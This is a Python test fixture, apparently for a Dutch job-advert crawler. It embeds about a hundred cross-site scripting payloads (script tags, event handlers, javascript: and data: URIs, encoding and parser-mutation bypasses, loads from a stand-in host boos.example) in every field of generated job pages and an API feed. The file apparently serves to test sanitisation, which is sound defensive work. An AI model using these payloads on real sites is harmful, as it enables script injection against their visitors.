"""Ways in which a page can try to have a script run by whoever reads it later."""

import json

from tests.crawlers.adverts import job, page

RUN = "kwaad(1)"
PAYLOADS = (
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<script/x>{RUN}</script>",
    f"<script\n>{RUN}</script\n>",
    f"<<script>{RUN}//<</script>",
    "<script src=//boos.example/x.js></script>",
    "<script src=data:,kwaad(1)></script>",
    f"</script><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"--><script>{RUN}</script>",
    f"]]><script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<img src=x onerror={RUN}//",
    f"<img/src=x/onerror={RUN}>",
    f'<img src="x`" onerror="{RUN}">',
    f"<img src=x:x onerror\x0c=\x0c{RUN}>",
    f"<image src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><script>{RUN}<p>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><set attributeName=href to=javascript:{RUN}><a>x</a>",
    f"<svg><a xlink:href=javascript:{RUN}><text>x</text></a></svg>",
    "<svg><use href=data:image/svg+xml,%3Csvg%20onload=kwaad(1)%3E>",
    f"<svg><foreignObject><iframe srcdoc='<script>{RUN}</script>'></foreignObject></svg>",
    f"<svg></p><style><g title='</style><img src onerror={RUN}>'>",
    f"<math><mi xlink:href=javascript:{RUN}>x</mi></math>",
    f"<math href=javascript:{RUN}>x</math>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={RUN}&gt;'>",
    f"<math><annotation-xml encoding=text/html><script>{RUN}</script></annotation-xml></math>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<template><script>{RUN}</script></template>",
    f"<template shadowrootmode=open><img src=x onerror={RUN}></template>",
    f"<iframe src=javascript:{RUN}>",
    f"<iframe srcdoc='<script>{RUN}</script>'>",
    "<iframe src=data:text/html,<script>kwaad(1)</script>>",
    f"<frameset onload={RUN}>",
    f"<object data=javascript:{RUN}>",
    "<object data=data:text/html;base64,PHNjcmlwdD5rd2FhZCgxKTwvc2NyaXB0Pg==>",
    f"<embed src=javascript:{RUN}>",
    f"<a href=javascript:{RUN}>klik</a>",
    f"<a href='java\tscript:{RUN}'>klik</a>",
    f"<a href=' &#14;javascript:{RUN}'>klik</a>",
    f"<a href=&#106;avascript:{RUN}>klik</a>",
    f"<a href=vbscript:{RUN}>klik</a>",
    "<a href='data:text/html,<script>kwaad(1)</script>'>klik</a>",
    f"<form action=javascript:{RUN}><button>verstuur</button></form>",
    f"<button formaction=javascript:{RUN}>klik</button>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<marquee onstart={RUN}>",
    f"<body onload={RUN}>",
    f"<b onmouseover={RUN} style=position:fixed;inset:0>x</b>",
    f'<p style="background:url(javascript:{RUN})">x</p>',
    f"<p style='width:expression({RUN})'>x</p>",
    f"<style>@import 'javascript:{RUN}';</style>",
    "<style>body{background:url(//boos.example/spoor)}</style>",
    "<link rel=stylesheet href=//boos.example/x.css>",
    f"<link rel=import href='data:text/html,<script>{RUN}</script>'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    "<base href=//boos.example/>",
    f"<xml><i><b>&lt;img src=x onerror={RUN}&gt;</b></i></xml>",
    f"<?xml-stylesheet href=javascript:{RUN}?>",
    f"<!--[if gte IE 4]><script>{RUN}</script><![endif]-->",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&amp;lt;script&amp;gt;{RUN}&amp;lt;/script&amp;gt;",
    f"&amp;amp;lt;img src=x onerror={RUN}&amp;amp;gt;",
    f"&#60;img src=x onerror={RUN}&#62;",
    f"&#x3c;img src=x onerror={RUN}&#x3e;",
    f"&lt&#x0000003Bscript&gt;{RUN}",
    f"\u003cimg src=x onerror={RUN}\u003e",
    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
    f"<\u200bscript>{RUN}</\u200bscript>",
    f"<\x00script>{RUN}</script>",
    f"\u202e<script>{RUN}</script>",
    f"<div hx-get=//boos.example hx-trigger=load data-hx-on:load={RUN}>x</div>",
    f"<x-kwaad onclick={RUN} tabindex=1 autofocus onfocus={RUN}>",
    f'"><script>{RUN}</script>',
    f"'\" onmouseover={RUN} x='",
    f"`onmouseover={RUN}`",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"${{{RUN}}}",
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\nscript:{RUN}",
    f"javascript://werkenbij.example/%0a{RUN}",
    f"javascript:{RUN}//jobs/123",
    f"vbscript:msgbox({RUN})",
    "data:text/html,<script>kwaad(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5rd2FhZCgxKTwvc2NyaXB0Pg==",
    f'//boos.example/"onmouseover={RUN}',
    f'https://werkenbij.example/"><script>{RUN}</script>',
    f"https://jan:geheim@boos.example/<script>{RUN}</script>",
    f'\\"><img src=x onerror={RUN}>',
)


def laden(number, payload):
    """An advert with a payload in every field that is read."""
    fields = job(number, identifier={"value": f"{payload}{number}"})
    money = {"currency": payload, "value": {"value": payload, "unitText": payload}}
    return fields | {
        "title": f"Baan {number} {payload}",
        "description": f"<p>Je werkt 24 uur. {payload}</p>{payload}",
        "url": payload,
        "hiringOrganization": {"name": f"De Wilg {payload}"},
        "jobLocation": {"address": {"addressLocality": payload, "postalCode": payload,
                                    "addressRegion": payload, "addressCountry": payload}},
        "workHours": payload, "employmentType": [payload], "educationRequirements": payload,
        "baseSalary": money, "datePosted": payload, "validThrough": payload,
        "inLanguage": payload, "jobLocationType": payload, "estimatedSalary": money,
    }  # fmt: skip


def hostile_pages():
    """Every payload in linked data, a part of them as another platform prints them."""
    pages = {
        f"/vacatures/last-{number}-x": page(
            json.dumps(laden(number, payload)).replace("</", "<\\/")
        )
        for number, payload in enumerate(PAYLOADS)
    }
    for number, payload in enumerate(PAYLOADS[::4]):
        escaped = payload.replace("&", "&amp;").replace("<", "&lt;")
        pages[f"/vacatures/bouw-{number}-y"] = (
            f"<html lang='nl'><head><title>x</title></head><body><h1>Bouw {number} {escaped}</h1>"
            f"<ul class='metadata'><li class='location'>{escaped}</li><li class='hours'>{escaped}"
            f"</li><li class='salary'>{escaped}</li></ul><div>{payload} {'Je bouwt. ' * 60}</div>"
        )
    return pages


def offers():
    return json.dumps(
        {
            "offers": [
                {"id": 1000 + n, "title": f"Bord {n} {p}", "careers_url": p, "description": p,
                 "requirements": p, "city": p, "company_name": p, "min_hours": p,
                 "employment_type_code": p, "salary": {"min": p, "period": p}, "status": "published"}
                for n, p in enumerate(PAYLOADS)
            ]
        }
    )  # fmt: skip
